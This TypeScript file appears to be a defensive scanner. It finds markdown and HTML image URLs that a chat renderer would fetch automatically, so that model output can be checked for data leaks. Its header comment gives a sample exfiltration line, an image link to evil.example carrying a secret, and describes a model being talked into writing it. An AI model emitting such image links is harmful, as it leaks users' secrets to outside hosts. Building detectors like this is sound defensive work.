/**
 * URLs a renderer fetches by itself, without anyone clicking: markdown images
 * (`![alt](url)`, and `![alt][ref]` / `![ref]` with a `[ref]: url` line) and
 * HTML `<img src=...>`. A model talked into writing
 * `![](https://evil.example/?d=<secret>)` exfiltrates the secret the moment a
 * chat UI shows its answer. Each scan is by hand, every position moving
 * forward only, so the work stays linear on any text.
 */

/** Where an image's URL ends: whitespace, quotes, brackets, `<`, `>` or backtick. */
const isUrlEnd = (code: number) =>
  code <= 0x20 ||
  code === 0x22 ||
  code === 0x27 ||
  code === 0x29 ||
  code === 0x3c ||
  code === 0x3e ||
  code === 0x5d ||
  code === 0x60

const MAX_URL = 2048
const MAX_ALT = 1000
const MAX_TAG = 4096

const isSpace = (code: number) => code === 0x20 || code === 0x09

/** The URL starting at `at` (after spaces and an optional `<`), reported when it names a host (scheme or `//`). */
const reportUrlAt = (text: string, at: number, report: (at: number, url: string) => void) => {
  let start = at
  while (start < text.length && isSpace(text.charCodeAt(start))) start++
  if (text.charCodeAt(start) === 0x3c) start++
  let end = start
  while (end < text.length && end - start < MAX_URL && !isUrlEnd(text.charCodeAt(end))) end++
  const url = text.slice(start, end)
  if (/^(?:[a-z][a-z0-9+.-]*:)?\/\/[^/]/i.test(url)) report(start, url)
}

/** The first `]` at or after `from`, reusing `known` while it is still ahead (so scans never repeat). */
const closeAfter = (text: string, from: number, known: number) =>
  known >= from || known === -1 ? known : text.indexOf("]", from)

/** `![alt](url)` and the reference names of `![alt][ref]` and `![ref]`, lower-cased. */
const inlineImages = (text: string, report: (at: number, url: string) => void, references: Set<string>) => {
  let close = -2
  for (let at = text.indexOf("!["); at >= 0; at = text.indexOf("![", at + 2)) {
    close = closeAfter(text, at + 2, close)
    if (close < 0) return
    if (close - at > MAX_ALT) continue
    const alt = text.slice(at + 2, close)
    if (alt.includes("\n")) continue
    const next = text.charCodeAt(close + 1)
    if (next === 0x28) reportUrlAt(text, close + 2, report)
    else if (next === 0x5b) {
      const refClose = closeAfter(text, close + 2, close)
      if (refClose < 0 || refClose - close > MAX_ALT) continue
      const ref = text
        .slice(close + 2, refClose)
        .trim()
        .toLowerCase()
      references.add(ref === "" ? alt.trim().toLowerCase() : ref)
    } else references.add(alt.trim().toLowerCase())
  }
}

/** `[ref]: url` definition lines (up to three spaces in) of references an image uses. */
const referenceDefinitions = (text: string, report: (at: number, url: string) => void, references: Set<string>) => {
  if (references.size === 0) return
  let close = -2
  for (let line = 0; line < text.length;) {
    const newline = text.indexOf("\n", line)
    const lineEnd = newline < 0 ? text.length : newline
    let at = line
    while (at < lineEnd && at - line < 3 && isSpace(text.charCodeAt(at))) at++
    if (text.charCodeAt(at) === 0x5b) {
      close = closeAfter(text, at + 1, close)
      if (close < 0) return
      if (close < lineEnd && close - at <= MAX_ALT && text.charCodeAt(close + 1) === 0x3a) {
        if (
          references.has(
            text
              .slice(at + 1, close)
              .trim()
              .toLowerCase()
          )
        )
          reportUrlAt(text, close + 2, report)
      }
    }
    line = lineEnd + 1
  }
}

/** Where the tag opened at `at` ends: the first `>` outside quotes (`alt="a > b"` does not end it), within MAX_TAG. */
const tagEndOf = (text: string, at: number) => {
  const limit = Math.min(text.length, at + MAX_TAG)
  let quote = 0
  for (let i = at; i < limit; i++) {
    const code = text.charCodeAt(i)
    if (quote !== 0) {
      if (code === quote) quote = 0
    } else if (code === 0x22 || code === 0x27) quote = code
    else if (code === 0x3e) return i
  }
  return limit
}

/** `<img ... src=url ...>` (and `srcset`'s first URL), case-insensitive; each tag read once, up to MAX_TAG. */
const htmlImages = (text: string, report: (at: number, url: string) => void) => {
  const lower = text.toLowerCase()
  for (let at = lower.indexOf("<img"); at >= 0;) {
    const tagEnd = tagEndOf(lower, at)
    const tag = lower.slice(at, tagEnd)
    const attribute = /\ssrc(?:set)?\s*=\s*["']?/g
    for (let m = attribute.exec(tag); m !== null; m = attribute.exec(tag)) {
      reportUrlAt(text, at + m.index + m[0].length, report)
    }
    at = lower.indexOf("<img", tagEnd)
  }
}

/** Calls `report` with the offset and text of every URL in `text` that a renderer would fetch as an image. */
export const eachImageUrl = (text: string, report: (at: number, url: string) => void) => {
  if (text.indexOf("![") >= 0) {
    const references = new Set<string>()
    inlineImages(text, report, references)
    referenceDefinitions(text, report, references)
  }
  if (text.indexOf("<") >= 0) htmlImages(text, report)
}
